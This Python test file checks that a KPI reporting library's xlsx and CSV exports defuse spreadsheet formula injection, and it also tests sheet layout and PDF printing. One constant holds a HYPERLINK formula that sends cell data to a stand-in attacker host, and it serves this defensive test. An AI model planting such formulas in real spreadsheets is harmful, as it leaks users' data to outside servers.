"""Spreadsheet formula injection (SPEC §9 "Spreadsheets"): text is shown, never run, in every xlsx and CSV we write.

A department name, a grade label, a signer's name or a data value that starts like
a formula (`=HYPERLINK(…)` carries the sheet's numbers to another server) must
reach the reader as the text it is. In xlsx every text cell is a string cell with
its value unchanged; in CSV, which has no cell types, such text gets a leading
`'` (OWASP's rule). Numbers stay numbers in both, so `-1.41` keeps its sign.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterator
from datetime import datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from kpi_lib.inputs.params import IndicatorParams, Params
from kpi_lib.inputs.period import Period
from kpi_lib.inputs.template import load_template
from kpi_lib.reports.exports import FORMULA_PREFIXES, csv_cell, scorecard_xlsx
from kpi_lib.reports.summary import IndexRow, summary_csv_text, summary_xlsx
from kpi_lib.scoring.result import DepartmentResult, Explanation, IndicatorRecord

PAYLOAD = 'HYPERLINK("http://attacker.example/?x="&A2,"details")'
PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
ERROR_LOOKALIKES = ["#N/A", "#DIV/0!", "#VALUE!"]


def _decimal(value: float | None) -> Decimal | None:
    return None if value is None else Decimal(repr(value))


def _record(iid: str, score: float | None, explain: Explanation | None = None) -> IndicatorRecord:
    return IndicatorRecord(
        id=iid, group="service", weight=Decimal(5), direction="higher", target=None, value=None, numerator=None,
        denominator=None, steps=None, score=_decimal(score), status="scored", excluded_rows=0, n=None, ci_low=None,
        ci_high=None, explain=explain,
    )  # fmt: skip


def _department_row(text: str, total: float | None = -1.41, score: float | None = 0.0) -> IndexRow:
    """One row of the period summary (as `summary.department_rows` makes it) carrying `text` in every text field."""
    result = DepartmentResult(
        text, Period.parse("2026-Q4"), _decimal(total), text, (_record("CS01", score), _record("CS02", total))
    )
    return IndexRow(text, name=text, lang="zh", labels={text: text}, result=result, rank=1)


def _scorecard(text: str) -> bytes:
    """scorecard.xlsx with `text` as the title, a data line of CS01, the grade and its label, and both signers' names."""
    template = load_template("customer_service")
    explain = Explanation(text, text, None, text, text, text, "")
    indicators = tuple(
        _record(iid, -1.41 if iid == "CS01" else 0, explain if iid == "CS01" else None) for iid in template.ids
    )
    result = DepartmentResult("cs-x", Period.parse("2026-Q4"), Decimal("-1.41"), text, indicators)
    signoffs = [
        {"role": "manager", "name": text, "time": text},
        {"role": "supervisor", "name": text, "time": "2026-01-05T09:00:00+08:00"},
    ]
    return scorecard_xlsx(template, "zh", text, result, {text: text}, _params("zh"), signoffs)


def _params(lang: str) -> Params:
    """Weights of 5 (as `_record` records them) with the seed's other numbers, for every packaged indicator."""
    template = load_template("customer_service")
    indicators = {
        ind.id: IndicatorParams(weight=Decimal(5), per_item=Decimal(10))
        if ind.direction == "count"
        else IndicatorParams(
            weight=Decimal(5), target=Decimal(90), step=Decimal(1), penalty=Decimal(2), bonus=Decimal(0)
        )
        for ind in template.indicators
    }
    return Params(department="cs-x", data=".", lang=lang, indicators=indicators)


def _text_cells(data: bytes) -> Iterator[openpyxl.cell.cell.Cell]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    for row in sheet.iter_rows():
        for cell in row:
            if cell.value is not None and not isinstance(cell.value, (int, float)):
                yield cell


def _summary_csv(tmp_path: Path, rows: list[IndexRow]) -> list[list[str]]:
    path = tmp_path / "summary.csv"
    path.write_bytes(summary_csv_text("2026-Q4", rows).encode("utf-8"))
    return list(
        csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""))
    )  # bytes: read_text would turn CR into LF


XLSX_WRITERS: dict[str, Callable[[str], bytes]] = {
    "scorecard.xlsx": _scorecard,
    "summary.xlsx": lambda text: summary_xlsx("2026-Q4", [_department_row(text)]),
}


@pytest.mark.parametrize("writer", XLSX_WRITERS)
@pytest.mark.parametrize("text", [p + PAYLOAD for p in PREFIXES] + ERROR_LOOKALIKES, ids=repr)
def test_xlsx_text_is_a_string_cell_with_its_value_unchanged(writer: str, text: str) -> None:
    # A carriage return reads back as a line feed: XML's end-of-line rule, applied by every reader of the file.
    stored = text.replace("\r", "\n")
    cells = [c for c in _text_cells(XLSX_WRITERS[writer](text)) if stored in str(c.value)]
    assert cells, f"{writer}: the text never reached the sheet"
    assert all(c.data_type == "s" for c in cells), [(c.coordinate, c.data_type) for c in cells if c.data_type != "s"]
    exact = [c for c in cells if c.value == stored]
    assert exact, f"{writer}: no cell holds the text exactly as given"


@pytest.mark.parametrize("writer", XLSX_WRITERS)
def test_no_xlsx_writer_ever_writes_a_formula(writer: str) -> None:
    data = XLSX_WRITERS[writer]("=1+1")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert "f" not in kinds and "e" not in kinds


@pytest.mark.parametrize("number", [-1.41, 0, 0.0, 105.5])
def test_xlsx_numbers_stay_numbers(number: float) -> None:
    sheet = openpyxl.load_workbook(
        io.BytesIO(summary_xlsx("2026-Q4", [_department_row("=x", total=number, score=number)]))
    ).active
    header, line = list(sheet.iter_rows())[:2]
    by_name = {h.value: c for h, c in zip(header, line, strict=True)}
    for name in ("加权总分", "CS01", "CS02"):
        assert by_name[name].data_type == "n" and by_name[name].value == number
    assert by_name["名次"].data_type == "n" and by_name["名次"].value == 1


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_csv_text_that_starts_like_a_formula_gets_a_quote(tmp_path: Path, prefix: str) -> None:
    text = prefix + PAYLOAD
    failed = IndexRow(text, name=text, lang="zh", labels={text: text}, error=f"{text}\nsecond line")
    header, *lines = _summary_csv(tmp_path, [_department_row(text), failed])
    ok, bad = (dict(zip(header, line, strict=True)) for line in lines)
    for name in ("department", "name", "grade", "grade_label"):
        assert ok[name] == "'" + text, name
    # The error column holds the first line of error.txt: a leading CR ends that line before any text.
    assert bad["error"] == ("" if prefix == "\r" else "'" + text)


@pytest.mark.parametrize(
    ("total", "shown"), [(-1.41, "-1.41"), (0, "0.00"), (0.0, "0.00"), (-0.004, "-0.00"), (100.125, "100.13")]
)
def test_csv_numbers_stay_numbers(tmp_path: Path, total: float, shown: str) -> None:
    """Numbers, rounded half-up to the cent (SPEC §4's rounding, `numbers.round2`) as every report shows them."""
    header, line = _summary_csv(tmp_path, [_department_row("cs-x", total=total, score=total)])
    by_name = dict(zip(header, line, strict=True))
    assert by_name["total"] == by_name["CS01"] == by_name["CS02"] == shown
    assert by_name["rank"] == "1"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        *((p + "x", "'" + p + "x") for p in FORMULA_PREFIXES),
        ("-", "'-"),
        ("a=b", "a=b"),
        (" =x", " =x"),
        ("华东 -1", "华东 -1"),
        ("", ""),
        (None, ""),
        (-1.41, -1.41),
        (0, 0),
        (Decimal("-1.41"), Decimal("-1.41")),
    ],
    ids=repr,
)
def test_csv_cell(value: Any, expected: Any) -> None:
    assert csv_cell(value) == expected


def test_the_prefixes_are_owasps() -> None:
    assert set(FORMULA_PREFIXES) == set(PREFIXES)


# -- scorecard.xlsx that HR can file (issue 11 §7) ------------------------------------------
def _filed(
    lang: str, weights: dict[str, str] | None = None, signed: bool = True
) -> openpyxl.worksheet.worksheet.Worksheet:
    """A scorecard.xlsx in `lang` read back: weights 5 (or `weights`), the manager signed, the supervisor not."""
    template = load_template("customer_service")
    weights = weights or {}
    params = _params(lang)
    indicators = tuple(
        _record(iid, 90.5).__class__(**{**_record(iid, 90.5).__dict__, "weight": Decimal(weights.get(iid, "5"))})
        for iid in template.ids
    )
    mine = {
        iid: p.model_copy(update={"weight": Decimal(weights.get(iid, "5"))}) for iid, p in params.indicators.items()
    }
    params = params.model_copy(update={"indicators": mine})
    result = DepartmentResult("cs-x", Period.parse("2026-Q4"), Decimal("91.25"), "A", indicators)
    signoffs = [{"role": "manager", "name": "王经理", "time": "2026-12-28T10:00:00+08:00"}] if signed else []
    data = scorecard_xlsx(template, lang, "title", result, {"A": "优秀"}, params, signoffs)
    return openpyxl.load_workbook(io.BytesIO(data)).active


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_scorecard_xlsx_prints_on_a4_landscape_one_page_wide_with_its_header_on_every_page(lang: str) -> None:
    sheet = _filed(lang)
    setup = sheet.page_setup
    assert setup.orientation == "landscape" and int(setup.paperSize) == 9  # 9 = A4
    assert int(setup.fitToWidth) == 1 and int(setup.fitToHeight) == 0
    assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
    assert sheet.print_title_rows == "$1:$2"
    assert sheet.freeze_panes == "C3"
    assert sheet.print_area is not None and "$N$" in str(sheet.print_area)


SHEET_WORDS = {
    "zh": {"header": ("序号", "考评项目及考评指标", "指标", "权重"), "score": "得分", "total": "加权总分", "grade": "A 优秀",
           "signs": ("部门经理签字", "上级主管领导签字"), "date": "日期", "title": "考核表"},
    "en": {"header": ("No.", "Indicator", "Target", "Weight"), "score": "Score", "total": "Weighted total",
           "grade": "A excellent", "signs": ("Department manager's signature", "Supervising leader's signature"),
           "date": "Date", "title": "KPI sheet"},
}  # fmt: skip


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_scorecard_xlsx_speaks_the_departments_language_only(lang: str) -> None:
    sheet = _filed(lang)
    words = SHEET_WORDS[lang]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[1][:4] == words["header"] and rows[1][13] == words["score"] and sheet.title == words["title"]
    labels = {row[0]: row for row in rows[15:] if row[0]}
    assert labels[words["total"]][2] == 91.25 and labels["等级" if lang == "zh" else "Grade"][2] == words["grade"]
    manager, supervisor = (labels[s] for s in words["signs"])
    assert manager[2] == "王经理" and manager[5] == words["date"] and manager[6] == datetime(2026, 12, 28, 10, 0)
    assert manager[8] == "UTC+08:00"  # a date cell in local time, its zone beside it
    assert supervisor[2] is None and supervisor[5] == words["date"] and supervisor[6] is None  # blank lines to sign
    other = re.compile(r"[\u4e00-\u9fff]") if lang == "en" else re.compile(r"\b(Weight|Score|Target|Grade|Date)\b")
    chrome = [rows[1], *(row[:1] + row[5:6] for row in rows[15:])]
    assert not [c for row in chrome for c in row if isinstance(c, str) and other.search(c)]
    assert not any(isinstance(c, str) and re.search(r"×(?![ ]?\d)", c) for row in rows for c in row)


def test_scorecard_xlsx_labels_sit_in_merged_cells_with_a_date_cell_by_each_signature() -> None:
    sheet = _filed("zh")
    merged = {str(r) for r in sheet.merged_cells.ranges}
    total, grade, manager, supervisor = (
        next(c.row for c in sheet["A"] if c.value == label)
        for label in ("加权总分", "等级", "部门经理签字", "上级主管领导签字")
    )
    assert "A1:N1" in merged
    for row in (total, grade, manager, supervisor):
        assert {f"A{row}:B{row}", f"C{row}:E{row}"} <= merged, row
    for row in (manager, supervisor):
        assert f"G{row}:H{row}" in merged and sheet[f"F{row}"].value == "日期"
        assert sheet[f"C{row}"].border.bottom.style == "thin" and sheet[f"G{row}"].border.bottom.style == "thin"
    label_width = sum(sheet.column_dimensions[c].width for c in "AB")
    assert label_width >= 2 * len("上级主管领导签字")  # a CJK character is about two columns wide
    assert sheet[f"C{total}"].number_format == "0.00"


@pytest.mark.parametrize(
    ("weight", "value", "shown"),
    [("5", 0.05, "0%"), ("10", 0.1, "0%"), ("12.5", 0.125, "0.0%"), ("7.25", 0.0725, "0.00%"), ("100", 1, "0%")],
)
def test_weights_are_percentages_whose_value_is_exact(weight: str, value: float, shown: str) -> None:
    sheet = _filed("zh", {"CS04": weight})
    cell = next(sheet[f"D{c.row}"] for c in sheet["A"] if c.value == "CS04")
    assert cell.value == value and cell.number_format == shown
    assert Decimal(repr(cell.value)) * 100 == Decimal(weight)  # the stored number is the weight/100, exactly
    scores = [sheet[f"N{c.row}"] for c in sheet["A"] if isinstance(c.value, str) and c.value.startswith("CS")]
    assert len(scores) == 12 and all(s.number_format == "0.00" and s.value == 90.5 for s in scores)


# -- summary.xlsx (issue 11 §7) ---------------------------------------------------------------
def _summary_sheet() -> openpyxl.worksheet.worksheet.Worksheet:
    zh = _department_row("cs-a", total=91.0, score=88.0)
    zh.labels, zh.result = (
        {"A": "优秀"},
        DepartmentResult("cs-a", Period.parse("2026-Q4"), Decimal(91), "A", zh.result.indicators if zh.result else ()),
    )
    zh.names = {"CS01": "制度制订", "CS02": "制度执行"}
    en = IndexRow("cs-b", name="West", lang="en", labels={"D": "基本合格"}, rank=2, names={"CS01": "制度制订"})
    en.result = DepartmentResult("cs-b", Period.parse("2026-Q4"), Decimal("60.5"), "D", (_record("CS01", 60.5),))
    own = IndexRow("cs-c", name="Own", lang="en", labels={"B": "Fine"}, rank=3)
    own.result = DepartmentResult("cs-c", Period.parse("2026-Q4"), Decimal(80), "B", (_record("CS01", 80.0),))
    return openpyxl.load_workbook(io.BytesIO(summary_xlsx("2026-Q4", [zh, en, own]))).active


def test_summary_xlsx_has_a_frozen_filtered_header_and_cents() -> None:
    sheet = _summary_sheet()
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:K4"
    header = [c.value for c in sheet[1]]
    assert header[8:] == ["CS01 制度制订", "CS02 制度执行", "签字"]  # id + name per id; the sign-off
    for row in sheet.iter_rows(min_row=2):
        assert row[5].number_format == "0.00" and row[8].number_format == "0.00"


def test_summary_xlsx_grade_labels_are_in_each_departments_language() -> None:
    labels = {row[1]: row[7] for row in _summary_sheet().iter_rows(min_row=2, values_only=True)}
    assert labels == {"cs-a": "优秀", "cs-b": "basic pass", "cs-c": "Fine"}  # a params file's own label as written


def test_summary_xlsx_is_checked_by_verify_with_named_columns(tmp_path: Path) -> None:
    """crosscheck reads an indicator column by the header's first word (the id), so a changed score is found."""
    from kpi_lib.audit.crosscheck import Expected, check_xlsx

    path = tmp_path / "summary.xlsx"
    path.write_bytes(summary_xlsx("2026-Q4", [_department_row("cs-a", total=91.0, score=88.0)]))
    expected = Expected("cs-a", "ok", total=91.0, grade="cs-a", scores={"CS01": 88.0, "CS02": 91.0}, rank=1)
    assert check_xlsx(path, [expected]) == []
    wrong = Expected("cs-a", "ok", total=91.0, grade="cs-a", scores={"CS01": 87.0, "CS02": 91.0}, rank=1)
    assert any("CS01 score" in line for line in check_xlsx(path, [wrong]))


# -- PDF: headless Chromium prints the reader's HTML (the real one: tests/test_browser.py) ------
FAKE_CHROMIUM = """#!/bin/sh
printf '%s\\n' "$@" > "$(dirname "$0")/args"
for arg; do case "$arg" in --print-to-pdf=*) out="${arg#--print-to-pdf=}";; esac; done
BEHAVIOUR
"""


@pytest.mark.slow
@pytest.mark.parametrize(
    ("behaviour", "error"),
    [
        ('printf "%%PDF-1.4 fake" > "$out"', None),
        (
            "echo 'ERROR:headless: cannot open display' >&2; exit 1",
            "could not print it to PDF: ERROR:headless: cannot open display",
        ),
        ("exit 0", "could not print it to PDF: exit code 0, no message"),  # says it printed, wrote nothing
        (
            'printf "half" > "$out"; exit 9',
            "could not print it to PDF: exit code 9, no message",
        ),  # a partial file is not kept
    ],
    ids=["prints", "fails", "writes-nothing", "dies-half-way"],
)
def test_html_to_pdf_prints_the_page_as_laid_out_or_names_the_page_it_could_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, behaviour: str, error: str | None
) -> None:
    from kpi_lib.base.errors import SetupError
    from kpi_lib.reports.exports import html_to_pdf

    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    fake = bin_dir / "chromium"
    fake.write_text(FAKE_CHROMIUM.replace("BEHAVIOUR", behaviour), encoding="utf-8")
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}:/usr/bin:/bin")
    page, pdf = tmp_path / "scorecard.html", tmp_path / "pdf" / "scorecard.pdf"
    page.write_text("<html></html>", encoding="utf-8")
    if error is None:
        html_to_pdf(page, pdf)
        assert pdf.read_bytes() == b"%PDF-1.4 fake"
    else:
        with pytest.raises(SetupError, match=re.escape(f"{page}: Chromium {error}")):
            html_to_pdf(page, pdf)
        assert not pdf.exists()
    assert [p.name for p in pdf.parent.iterdir()] == ([pdf.name] if error is None else [])  # no temporary left
    args = (bin_dir / "args").read_text(encoding="utf-8").splitlines()
    # the page's own paper (CSS @page: A4 landscape), no browser header/footer, nothing fetched, the page by file URL
    assert {"--headless", "--no-pdf-header-footer", "--disable-background-networking"} <= set(args)
    assert args[-1] == page.resolve().as_uri() and not any(a.startswith("--paper") for a in args)


def test_without_chromium_the_error_says_how_to_install_it(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    from kpi_lib.base.errors import SetupError
    from kpi_lib.reports.exports import chromium

    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(SetupError, match=re.escape("Chromium is not installed: run `make pdf-deps`")):
        chromium()
